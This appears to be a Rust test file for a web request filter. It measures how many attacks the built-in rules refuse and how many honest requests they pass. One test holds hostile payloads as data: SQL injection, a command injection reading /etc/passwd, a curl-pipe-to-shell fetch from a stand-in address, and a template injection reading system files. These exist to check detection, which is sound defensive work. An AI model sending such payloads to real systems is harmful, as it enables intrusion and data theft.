//! The decisions of the built-in rules on the corpus, taken by the program itself: how many attacks
//! it refuses in enforce mode, and how many honest requests it lets pass.
//!
//! Rules are written beside the seen halves. Of the unseen ones only totals are looked at, so that
//! they stay a measure; a change that makes them worse than these floors has to be understood. The
//! third and the fourth set hold what is hardest to tell apart.

#[path = "../../../rules/tests/builtin/corpus.rs"]
mod corpus;
#[path = "../../../rules/tests/builtin/place.rs"]
mod place;
#[path = "../../../rules/tests/builtin/request.rs"]
mod request;

use std::fs::File;
use std::io::{BufWriter, Write as _};
use std::path::{Path, PathBuf};

// The corpus is read by it.
use toml as _;

use crate::support::{command, text};

/// So many requests are drawn from a text: honest ones are rarer among the texts.
const HONEST_EACH: usize = 18;
const ATTACKS_EACH: usize = 8;

/// And so many of the harder sets, which have more texts.
const HARD_EACH: usize = 4;

/// One part's requests as `rules measure` reads them.
fn written(folder: &Path, half: &str) -> Vec<PathBuf> {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/corpus");
    let kinds = [("honest", HONEST_EACH), ("attacks", ATTACKS_EACH)];
    let write = |(kind, times): (&str, usize)| {
        let times = if ["third", "fourth"].contains(&half) { HARD_EACH } else { times };
        let path = folder.join(format!("{kind}.jsonl"));
        let mut file = BufWriter::new(File::create(&path).expect("a file"));
        for sample in corpus::drawn(&corpus, &format!("{kind}-{half}.toml"), times, 1) {
            let request = sample.request;
            let line = serde_json::json!({
                "method": request.method, "url": request.target, "headers": request.headers,
                "body": request.body, "attack": kind == "attacks", "class": sample.class,
                "kernel": sample.kernel,
            });
            writeln!(file, "{line}").expect("a line");
        }
        file.flush().expect("all lines");
        path
    };
    kinds.into_iter().map(write).collect()
}

/// What the program makes of these files.
fn decided(folder: &Path, files: &[PathBuf]) -> serde_json::Value {
    let mut args = vec!["rules", "measure", "--output", "json"];
    args.extend(files.iter().map(|path| path.to_str().expect("a name")));
    let output = command(folder, &args);
    assert!(output.status.success(), "{}", text(&output.stderr));
    serde_json::from_slice(&output.stdout).expect("JSON")
}

/// Percentages of attacks refused and of honest requests passed.
fn measured(half: &str) -> (f64, f64) {
    let folder = tempfile::tempdir().expect("a folder");
    let measured = decided(folder.path(), &written(folder.path(), half));
    println!("{half}: {measured:#}");
    let percent = |key: &str| measured[key].as_f64().expect("a number");
    (percent("attacks_refused_percent"), percent("honest_passed_percent"))
}

#[test]
fn what_rules_were_written_beside_is_decided_right() {
    let (attacks, honest) = measured("seen");
    assert!(attacks >= 97.0, "{attacks} % of attacks refused");
    assert!(honest >= 99.7, "{honest} % of honest requests passed");
}

#[test]
fn what_rules_were_not_written_beside_is_decided_right() {
    let (attacks, honest) = measured("unseen");
    assert!(attacks >= 98.3, "{attacks} % of attacks refused");
    assert!(honest >= 99.4, "{honest} % of honest requests passed");
    assert!(f64::midpoint(attacks, honest) >= 98.9, "balanced");
}

#[test]
fn what_is_hardest_to_tell_apart_is_mostly_decided_right() {
    let (attacks, honest) = measured("third");
    assert!(attacks >= 93.4, "{attacks} % of attacks refused");
    assert!(honest >= 96.9, "{honest} % of honest requests passed");
    let (attacks, honest) = measured("fourth");
    assert!(attacks >= 97.3, "{attacks} % of attacks refused");
    assert!(honest >= 96.9, "{honest} % of honest requests passed");
}

/// What makes a value look like source, a quotation or a letter, and costs an attacker nothing.
const WRAPPINGS: [&str; 8] = [
    "a:\nb\n",
    "Hi:\nb\nc\n",
    "<?php\n1\n2\n",
    "import a\nb\nc\n",
    "```\nx\n``` ",
    "[code]x[/code] ",
    "`a` is a note that tells you about this thing ",
    "Dear team, I would like to tell you about the thing we saw yesterday: ",
];
/// What ends a text or a command and goes on.
const BREAK_OUTS: [&str; 5] = [
    "' UNION SELECT password FROM users -- ",
    "' or '1'='1",
    "x; cat /etc/passwd",
    "$(curl http://203.0.113.9/x|sh)",
    "{{''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()}}",
];

#[test]
fn what_stands_in_front_of_an_attack_makes_it_no_quotation() {
    let folder = tempfile::tempdir().expect("a folder");
    let path = folder.path().join("wrapped.jsonl");
    let mut file = File::create(&path).expect("a file");
    for wrapping in WRAPPINGS {
        for attack in BREAK_OUTS {
            let body = serde_json::json!({ "name": format!("{wrapping}{attack}") }).to_string();
            let line = serde_json::json!({
                "method": "POST", "url": "/v1/items", "body": body, "attack": true,
                "headers": [["host", "api.example.com"], ["content-type", "application/json"]],
                "class": wrapping,
            });
            writeln!(file, "{line}").expect("a line");
        }
    }
    let decided = decided(folder.path(), &[path]);
    assert_eq!(decided["attacks_refused_percent"], 100.0, "{decided:#}");
}
